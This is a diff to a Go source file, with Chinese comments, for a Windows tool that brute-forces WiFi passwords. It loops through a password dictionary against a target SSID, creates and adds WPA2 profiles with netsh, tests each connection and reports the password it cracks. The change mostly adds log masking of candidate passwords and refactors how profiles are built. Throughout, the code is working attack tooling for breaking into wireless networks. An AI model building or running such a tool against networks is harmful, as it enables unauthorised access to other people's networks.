@@ -23,16 +23,16 @@ type BruteForceResult struct {
 	FailedAttempts []string
 }
 
-// BruteForceWiFi 对指定的WiFi网络进行密码爆破
-func BruteForceWiFi(ssid string, customDictPath string, maxAttempts int) (*BruteForceResult, error) {
+// BruteForceWiFi 对指定的WiFi网络进行密码爆破，reveal为false时日志中的候选密码只显示掩码
+func BruteForceWiFi(ssid string, customDictPath string, maxAttempts int, reveal bool) (*BruteForceResult, error) {
 	startTime := time.Now()
 
 	// 保存当前网络连接状态
 	originalNetwork, isConnected := getCurrentNetworkConnection()
 	if isConnected {
-		fmt.Printf("当前已连接到网络: %s\n", originalNetwork)
+		logf("当前已连接到网络: %s\n", originalNetwork)
 	} else {
-		fmt.Println("当前未连接到任何网络")
+		logf("当前未连接到任何网络\n")
 	}
 
 	// 准备密码列表
@@ -66,10 +66,10 @@ func BruteForceWiFi(ssid string, customDictPath string, maxAttempts int) (*Brute
 	for _, password := range passwords {
 		result.TestedCount++
 
-		// 尝试连接WiFi
-		success, err := tryWiFiPassword(ssid, password, maxAttempts)
+		// 尝试连接WiFi，候选密码在输出时单独掩码，不登记为密钥，避免常见单词在所有日志中都被替换
+		success, err := tryWiFiPassword(ssid, password, maxAttempts, reveal)
 		if err != nil {
-			fmt.Printf("尝试密码 '%s' 时出错: %v\n", password, err)
+			logf("尝试密码 '%s' 时出错: %v\n", ShowSecret(password, reveal), err)
 			result.FailedAttempts = append(result.FailedAttempts, password)
 			continue
 		}
@@ -77,27 +77,29 @@ func BruteForceWiFi(ssid string, customDictPath string, maxAttempts int) (*Brute
 		if success {
 			result.Success = true
 			result.Password = password
+			// 只登记破解成功的密码，之后的日志和错误信息中出现时替换为掩码
+			RegisterSecret(password)
 
 			// 恢复原有网络连接状态
 			if isConnected {
-				fmt.Printf("密码破解成功: %s，正在恢复原有网络连接: %s\n", password, originalNetwork)
+				logf("密码破解成功: %s，正在恢复原有网络连接: %s\n", password, originalNetwork)
 				time.Sleep(2 * time.Second) // 给一些时间让当前连接稳定
 				restoreCmd := exec.Command("netsh", "wlan", "connect", "name="+originalNetwork)
 				restoreOutput, err := restoreCmd.CombinedOutput()
 				if err != nil {
-					fmt.Printf("恢复原有网络连接失败: %v, 输出: %s\n", err, string(restoreOutput))
+					logf("恢复原有网络连接失败: %v, 输出: %s\n", err, string(restoreOutput))
 				} else {
-					fmt.Printf("已恢复原有网络连接: %s\n", originalNetwork)
+					logf("已恢复原有网络连接: %s\n", originalNetwork)
 				}
 			} else {
 				// 如果原来未连接网络，则断开当前连接
-				fmt.Println("密码破解成功: " + password + "，原来未连接网络，正在断开当前连接...")
+				logf("密码破解成功: %s，原来未连接网络，正在断开当前连接...\n", password)
 				disconnectCmd := exec.Command("netsh", "wlan", "disconnect")
 				disconnectOutput, err := disconnectCmd.CombinedOutput()
 				if err != nil {
-					fmt.Printf("断开连接失败: %v, 输出: %s\n", err, string(disconnectOutput))
+					logf("断开连接失败: %v, 输出: %s\n", err, string(disconnectOutput))
 				} else {
-					fmt.Println("已断开连接")
+					logf("已断开连接\n")
 				}
 			}
 
@@ -141,71 +143,34 @@ func loadCustomDictionary(filePath string) ([]string, error) {
 }
 
 // tryWiFiPassword 尝试使用指定的密码连接WiFi
-func tryWiFiPassword(ssid, password string, maxAttempts int) (bool, error) {
-	// 创建临时的WiFi配置文件，设置为不记住密码
+func tryWiFiPassword(ssid, password string, maxAttempts int, reveal bool) (bool, error) {
+	// 创建临时的WiFi配置文件，设置为手动连接
 	// 使用原始SSID作为配置文件名，避免使用后缀可能导致的连接问题
-	profileName := ssid
-	profileXML := fmt.Sprintf(`<?xml version="1.0"?>
-<WLANProfile xmlns="http://www.microsoft.com/networking/WLAN/profile/v1">
-	<name>%s</name>
-	<SSIDConfig>
-		<SSID>
-			<hex>%x</hex>
-			<name>%s</name>
-		</SSID>
-		<nonBroadcast>false</nonBroadcast>
-	</SSIDConfig>
-	<connectionType>ESS</connectionType>
-	<connectionMode>manual</connectionMode>
-	<autoSwitch>false</autoSwitch>
-	<MSM>
-		<security>
-			<authEncryption>
-				<authentication>WPA2PSK</authentication>
-				<encryption>AES</encryption>
-				<useOneX>false</useOneX>
-			</authEncryption>
-			<sharedKey>
-				<keyType>passPhrase</keyType>
-				<protected>false</protected>
-				<keyMaterial>%s</keyMaterial>
-			</sharedKey>
-		</security>
-	</MSM>
-	<MacRandomization xmlns="http://www.microsoft.com/networking/WLAN/profile/v3">
-		<enableRandomization>false</enableRandomization>
-	</MacRandomization>
-</WLANProfile>`, profileName, []byte(ssid), ssid, password)
-
-	// 创建临时文件
-	tempFile := fmt.Sprintf("%s_temp.xml", strings.ReplaceAll(ssid, " ", "_"))
-	err := os.WriteFile(tempFile, []byte(profileXML), 0644)
+	profile, err := NewWLANProfile(SavedWiFi{
+		SSID:             ssid,
+		Password:         password,
+		KeyStatus:        KeyPresent,
+		Authentication:   "WPA2PSK",
+		ConnectionMode:   ConnectionManual,
+		MACRandomization: "禁用",
+	})
 	if err != nil {
-		return false, fmt.Errorf("创建临时配置文件失败: %v", err)
+		return false, fmt.Errorf("创建配置文件失败: %v", err)
 	}
-	defer func() {
-		// 确保临时XML文件被删除
-		err := os.Remove(tempFile)
-		if err != nil {
-			return
-		}
-		// 确保临时配置文件被删除
-		deleteCmd := exec.Command("netsh", "wlan", "delete", "profile", "name="+profileName)
-		err = deleteCmd.Run()
-		if err != nil {
-			return
-		} // 忽略错误，尽力删除
-	}()
+	profileName := profile.Name
 
 	// 添加WiFi配置文件
-	addCmd := exec.Command("netsh", "wlan", "add", "profile", "filename="+tempFile)
-	_, err = addCmd.CombinedOutput()
-	if err != nil {
-		return false, fmt.Errorf("添加WiFi配置文件失败: %v", err)
+	if err := addWLANProfile(profile); err != nil {
+		return false, err
 	}
+	defer func() {
+		// 确保临时配置文件被删除，忽略错误，尽力删除
+		deleteCmd := exec.Command("netsh", "wlan", "delete", "profile", "name="+profileName)
+		_ = deleteCmd.Run()
+	}()
 
 	// 尝试连接WiFi
-	fmt.Printf("尝试密码: %s\n", password)
+	logf("尝试密码: %s\n", ShowSecret(password, reveal))
 
 	// 先断开当前连接，确保不会受到现有连接的影响
 	disconnectCmd := exec.Command("netsh", "wlan", "disconnect")
@@ -219,7 +184,7 @@ func tryWiFiPassword(ssid, password string, maxAttempts int) (bool, error) {
 	connectCmd := exec.Command("netsh", "wlan", "connect", "name="+profileName)
 	connectOutput, err := connectCmd.CombinedOutput()
 	if err != nil {
-		fmt.Printf("连接命令执行失败: %v, 输出: %s\n", err, string(connectOutput))
+		logf("连接命令执行失败: %v, 输出: %s\n", err, string(connectOutput))
 		return false, nil
 	}
 
@@ -231,7 +196,7 @@ func tryWiFiPassword(ssid, password string, maxAttempts int) (bool, error) {
 		//fmt.Println("连接命令返回成功，等待连接建立...")
 		time.Sleep(3 * time.Second) // 给予一些时间让连接建立
 	} else {
-		fmt.Println("连接命令未返回成功信息")
+		logf("连接命令未返回成功信息\n")
 		return false, nil
 	}
 
@@ -239,7 +204,7 @@ func tryWiFiPassword(ssid, password string, maxAttempts int) (bool, error) {
 	statusCmd := exec.Command("netsh", "wlan", "show", "interfaces")
 	statusOutput, err := statusCmd.CombinedOutput()
 	if err != nil {
-		fmt.Printf("获取状态失败: %v\n", err)
+		logf("获取状态失败: %v\n", err)
 		return false, nil
 	}
 
@@ -253,11 +218,11 @@ func tryWiFiPassword(ssid, password string, maxAttempts int) (bool, error) {
 
 		// 检查是否有明显的连接状态
 		if strings.Contains(statusLower, "已连接") || strings.Contains(statusLower, "connected") {
-			fmt.Println("状态显示为已连接")
-			fmt.Printf("连接成功！密码: %s\n", password)
+			logf("状态显示为已连接\n")
+			logf("连接成功！密码: %s\n", ShowSecret(password, reveal))
 			return true, nil
 		} else if strings.Contains(statusLower, "已断开") || strings.Contains(statusLower, "disconnected") {
-			fmt.Println("状态显示为已断开，密码可能错误")
+			logf("状态显示为已断开，密码可能错误\n")
 			return false, nil
 		} else {
 			// 如果状态不明确，尝试ping测试
@@ -267,8 +232,8 @@ func tryWiFiPassword(ssid, password string, maxAttempts int) (bool, error) {
 			pingStr := string(pingOutput)
 
 			if strings.Contains(pingStr, "TTL=") || strings.Contains(pingStr, "时间=") || strings.Contains(pingStr, "time=") {
-				fmt.Println("Ping测试成功，连接应该已建立")
-				fmt.Printf("连接成功！密码: %s\n", password)
+				logf("Ping测试成功，连接应该已建立\n")
+				logf("连接成功！密码: %s\n", ShowSecret(password, reveal))
 				return true, nil
 			} else {
 				//fmt.Println("Ping测试失败，密码可能错误")
@@ -286,7 +251,7 @@ func getCurrentNetworkConnection() (string, bool) {
 	cmd := exec.Command("netsh", "wlan", "show", "interfaces")
 	output, err := cmd.CombinedOutput()
 	if err != nil {
-		fmt.Printf("获取当前网络连接状态失败: %v\n", err)
+		logf("获取当前网络连接状态失败: %v\n", err)
 		return "", false
 	}
 
@@ -318,8 +283,8 @@ func getCurrentNetworkConnection() (string, bool) {
 	return ssid, connected && ssid != ""
 }
 
-// FormatBruteForceResult 格式化爆破结果
-func FormatBruteForceResult(result *BruteForceResult) string {
+// FormatBruteForceResult 格式化爆破结果，reveal为false时密码只显示掩码
+func FormatBruteForceResult(result *BruteForceResult, reveal bool) string {
 	var output strings.Builder
 	output.WriteString(fmt.Sprintf("=== WiFi密码爆破结果 - %s ===\n\n", time.Now().Format("2006-01-02 15:04:05")))
 	output.WriteString(fmt.Sprintf("目标SSID: %s\n", result.SSID))
@@ -327,12 +292,12 @@ func FormatBruteForceResult(result *BruteForceResult) string {
 	output.WriteString(fmt.Sprintf("耗时: %s\n\n", result.ElapsedTime))
 
 	if result.Success {
-		output.WriteString(fmt.Sprintf("爆破成功!\n密码: %s\n", result.Password))
+		output.WriteString(fmt.Sprintf("爆破成功!\n密码: %s\n", ShowSecret(result.Password, reveal)))
 	} else {
 		output.WriteString("爆破失败，未找到正确密码。\n")
 		output.WriteString("\n尝试过的密码:\n")
 		for i, password := range result.FailedAttempts {
-			output.WriteString(fmt.Sprintf("  %d. %s\n", i+1, password))
+			output.WriteString(fmt.Sprintf("  %d. %s\n", i+1, ShowSecret(password, reveal)))
 		}
 	}
 